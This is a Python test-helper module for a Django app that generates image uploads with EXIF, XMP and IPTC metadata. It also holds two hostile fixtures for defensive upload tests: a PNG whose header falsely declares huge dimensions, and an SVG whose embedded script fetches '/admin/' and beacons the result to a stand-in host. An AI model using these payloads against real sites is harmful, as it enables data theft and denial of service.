"""Real image files made with Pillow, for uploads in tests.

Metadata blocks Pillow cannot write (IPTC IIM) are assembled here byte by byte, as a
camera or an agency's software would write them.
"""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image


def image_bytes(width=640, height=427, color=(40, 90, 140), fmt="JPEG", **save_options):
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, fmt, **save_options)
    return buffer.getvalue()


def uploaded_image(name="photo.jpg", **kwargs):
    content_type = "image/png" if name.endswith(".png") else "image/jpeg"
    fmt = "PNG" if name.endswith(".png") else "JPEG"
    return SimpleUploadedFile(name, image_bytes(fmt=fmt, **kwargs), content_type=content_type)


def upload(name, data, content_type="image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def two_tone(width, height, left=(220, 20, 20), right=(20, 20, 220)):
    """Left half one colour, right half another: shows which way a picture was turned."""
    image = Image.new("RGB", (width, height), right)
    image.paste(left, (0, 0, width // 2, height))
    return image


def photo_like(width, height):
    """Gradients with a little grain: compresses like a photograph, encodes quickly."""
    size = (width, height)
    light = Image.linear_gradient("L").resize(size)
    shade = Image.radial_gradient("L").resize(size)
    base = Image.merge("RGB", [light, shade, light.transpose(Image.Transpose.FLIP_LEFT_RIGHT)])
    return Image.blend(base, Image.effect_noise(size, 40).convert("RGB"), 0.04)


def jpeg(image=None, **save_options):
    buffer = io.BytesIO()
    (image or Image.new("RGB", (640, 427), (40, 90, 140))).save(buffer, "JPEG", **save_options)
    return buffer.getvalue()


def exif(orientation=None, gps=False, description=None, artist=None, copyright=None):
    """An EXIF block; `gps=True` adds a position (the Kremlin) as phones record it."""
    data = Image.Exif()
    for tag, value in (
        (ExifTags.Base.Orientation, orientation),
        (ExifTags.Base.ImageDescription, description),
        (ExifTags.Base.Artist, artist),
        (ExifTags.Base.Copyright, copyright),
    ):
        if value is not None:
            data[tag] = value
    if gps:
        position = data.get_ifd(ExifTags.IFD.GPSInfo)
        position[ExifTags.GPS.GPSLatitudeRef] = "N"
        position[ExifTags.GPS.GPSLatitude] = (55.0, 45.0, 6.0)
        position[ExifTags.GPS.GPSLongitudeRef] = "E"
        position[ExifTags.GPS.GPSLongitude] = (37.0, 37.0, 4.0)
    return data


def xmp_packet(caption=None, credit=None, creator=None, rights=None):
    """An XMP packet as Photo Mechanic or Lightroom write it (IPTC Core in XMP)."""
    parts = []
    if caption:
        alternatives = f'<rdf:Alt><rdf:li xml:lang="x-default">{caption}</rdf:li></rdf:Alt>'
        parts.append(f"<dc:description>{alternatives}</dc:description>")
    if creator:
        parts.append(f"<dc:creator><rdf:Seq><rdf:li>{creator}</rdf:li></rdf:Seq></dc:creator>")
    if rights:
        parts.append(
            f'<dc:rights><rdf:Alt><rdf:li xml:lang="x-default">{rights}</rdf:li></rdf:Alt></dc:rights>'
        )
    credit_attribute = f' photoshop:Credit="{credit}"' if credit else ""
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        f'xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/"{credit_attribute}>'
        f"{''.join(parts)}</rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


IPTC_CAPTION, IPTC_CREDIT, IPTC_BYLINE, IPTC_COPYRIGHT = (2, 120), (2, 110), (2, 80), (2, 116)


def with_iptc(jpeg_data, fields, utf8=True):
    """`jpeg_data` with an APP13 Photoshop block holding IPTC IIM `fields` ({(record, dataset): text})."""
    datasets = b""
    if utf8:
        datasets += _iptc_dataset((1, 90), b"\x1b%G")
    for (record, number), text in fields.items():
        datasets += _iptc_dataset((record, number), text.encode("utf-8" if utf8 else "latin-1"))
    resource = b"8BIM" + struct.pack(">H", 0x0404) + b"\x00\x00" + struct.pack(">I", len(datasets)) + datasets
    if len(datasets) % 2:
        resource += b"\x00"
    payload = b"Photoshop 3.0\x00" + resource
    segment = b"\xff\xed" + struct.pack(">H", len(payload) + 2) + payload
    assert jpeg_data[:2] == b"\xff\xd8"
    return jpeg_data[:2] + segment + jpeg_data[2:]


def _iptc_dataset(tag, value):
    return b"\x1c" + bytes(tag) + struct.pack(">H", len(value)) + value


def png_declaring(width, height):
    """A valid-looking PNG a few dozen bytes long whose header claims `width` × `height` pixels."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="640" height="427">
  <script>fetch("/admin/").then(r => r.text()).then(t => navigator.sendBeacon("//x.example", t))</script>
  <rect width="640" height="427" fill="navy"/>
</svg>
"""
